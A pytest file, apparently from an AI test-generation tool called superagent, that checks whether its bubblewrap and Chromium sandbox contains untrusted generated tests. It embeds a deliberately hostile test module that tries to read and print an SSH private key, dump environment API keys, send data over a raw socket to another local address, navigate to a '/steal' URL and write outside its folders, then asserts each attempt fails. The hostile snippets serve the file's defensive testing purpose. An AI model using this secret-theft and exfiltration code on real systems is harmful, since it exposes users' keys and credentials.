"""Generated tests are untrusted: a hostile test file, run by the real Runner in real bubblewrap and Chromium,
cannot read the user's keys, reach another origin, or see API keys; the app itself stays reachable."""

from __future__ import annotations

import asyncio
import socket
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import ClassVar

import pytest
from apps.local_http import serve_handler

from superagent.agents.runner import run_tests
from superagent.models import FailureKind, RunReport, TestResult
from superagent.settings import Settings

KEY = "-----BEGIN FAKE PRIVATE KEY----- planted-for-the-sandbox-test"
API_KEYS = {"FAKE_API_KEY": "fake-api-key-3f9a", "OPENAI_API_KEY": "sk-sandbox-test-77c1"}
PASSWORD = "app-password-5d2e"

HOSTILE = """
import os
import socket
from pathlib import Path
from typing import ClassVar

def test_app_is_reachable(page):
    page.goto("/")
    assert page.title() == "App"
    assert os.getuid() != 0

def test_can_log_in_with_the_named_password():
    assert os.environ["APP_PASSWORD"] == "{password}"

def test_steal_ssh_key():
    for path in (Path("~/.ssh/id_rsa").expanduser(), Path("{key_path}")):
        if path.exists():
            print("STOLEN", path.read_text())
    raise PermissionError("no key found")

def test_print_api_keys():
    print("ENV", dict(os.environ))
    print("KEYS", os.environ["OPENAI_API_KEY"], os.environ["FAKE_API_KEY"])

def test_raw_socket_to_another_origin():
    with socket.create_connection(("127.0.0.2", {other_port}), timeout=5) as sock:
        sock.sendall(b"exfiltrate")

def test_browser_to_another_origin(page):
    page.goto("/")
    page.goto("{other_url}/steal?from=test")

def test_write_outside_the_run_folders():
    Path("{outside}").write_text("planted")
"""


class _App(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"<!doctype html><title>App</title><h1>App</h1>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Other(_App):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Other.hits.append(self.path)
        super().do_GET()


@pytest.fixture(scope="module")
def raw_listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server on another loopback address: the raw socket's target, logging whatever reaches it."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.2", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                received.append(conn.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(5)
    server.close()


@pytest.fixture(scope="module")
def hostile_run(
    chromium: str, tmp_path_factory: pytest.TempPathFactory, raw_listener: tuple[int, list[bytes]]
) -> Iterator[tuple[RunReport, Path]]:
    root = tmp_path_factory.mktemp("hostile")
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    project = root / "project"
    project.mkdir()
    (project / "pytest.ini").write_text("[pytest]\n")
    outside = Path(__file__).parent / "planted-by-a-test.txt"
    with pytest.MonkeyPatch.context() as env, serve_handler(_App) as url, serve_handler(_Other) as other_url:
        env.setenv("HOME", str(home))
        for name, value in API_KEYS.items():
            env.setenv(name, value)
        env.setenv("APP_PASSWORD", PASSWORD)
        source = HOSTILE.format(
            password=PASSWORD, key_path=home / ".ssh" / "id_rsa", other_port=raw_listener[0],
            other_url=other_url, outside=outside,
        )  # fmt: skip
        (project / "test_generated.py").write_text(textwrap.dedent(source))
        report = asyncio.run(
            run_tests(
                [project],
                run_id="hostile",
                artifacts_dir=root / "artifacts",
                base_url=url,
                env={"SUPERAGENT_USERNAME": "demo", "SUPERAGENT_PASSWORD_ENV": "APP_PASSWORD"},
                timeout_s=240,
                settings=Settings(sandbox="bubblewrap"),
            )
        )
    yield report, root
    outside.unlink(missing_ok=True)


def _result(report: RunReport, name: str) -> TestResult:
    return next(r for r in report.results if r.nodeid.split("::")[1].startswith(name))


def _everything(report: RunReport, root: Path) -> str:
    return report.output + report.model_dump_json() + (root / "artifacts" / "results.json").read_text()


def test_the_app_stays_reachable_and_the_tests_do_not_run_as_root(hostile_run: tuple[RunReport, Path]) -> None:
    report, _ = hostile_run
    assert _result(report, "test_app_is_reachable").outcome == "passed", report.output[-3000:]
    assert _result(report, "test_can_log_in_with_the_named_password").outcome == "passed"


def test_the_planted_ssh_key_cannot_be_read(hostile_run: tuple[RunReport, Path]) -> None:
    report, root = hostile_run
    result = _result(report, "test_steal_ssh_key")
    assert result.outcome == "failed" and result.failure is not None
    assert "no key found" in result.failure.message
    assert KEY not in _everything(report, root)


def test_api_keys_are_not_in_the_environment(hostile_run: tuple[RunReport, Path]) -> None:
    report, root = hostile_run
    result = _result(report, "test_print_api_keys")
    assert result.outcome == "failed" and result.failure is not None
    assert "KeyError" in (result.failure.message + report.output)
    text = _everything(report, root)
    for value in API_KEYS.values():
        assert value not in text


def test_a_raw_socket_to_another_address_is_refused(
    hostile_run: tuple[RunReport, Path], raw_listener: tuple[int, list[bytes]]
) -> None:
    report, _ = hostile_run
    result = _result(report, "test_raw_socket_to_another_origin")
    assert result.outcome == "failed" and result.failure is not None
    assert "refused" in result.failure.message.lower() or "unreachable" in result.failure.message.lower()
    assert raw_listener[1] == []


def test_the_browser_cannot_reach_another_origin(hostile_run: tuple[RunReport, Path]) -> None:
    report, _ = hostile_run
    result = _result(report, "test_browser_to_another_origin")
    assert result.outcome == "failed" and result.failure is not None
    assert result.failure.kind is FailureKind.NAVIGATION
    assert any("/steal?from=test" in blocked for blocked in result.blocked_requests)
    assert not any("/steal" in failed for failed in result.failed_requests)  # blocked, not an app failure
    assert _Other.hits == []


def test_the_system_is_read_only(hostile_run: tuple[RunReport, Path]) -> None:
    report, _ = hostile_run
    result = _result(report, "test_write_outside_the_run_folders")
    assert result.outcome == "failed" and result.failure is not None
    assert "Read-only file system" in result.failure.message or "Permission denied" in result.failure.message
    assert not (Path(__file__).parent / "planted-by-a-test.txt").exists()
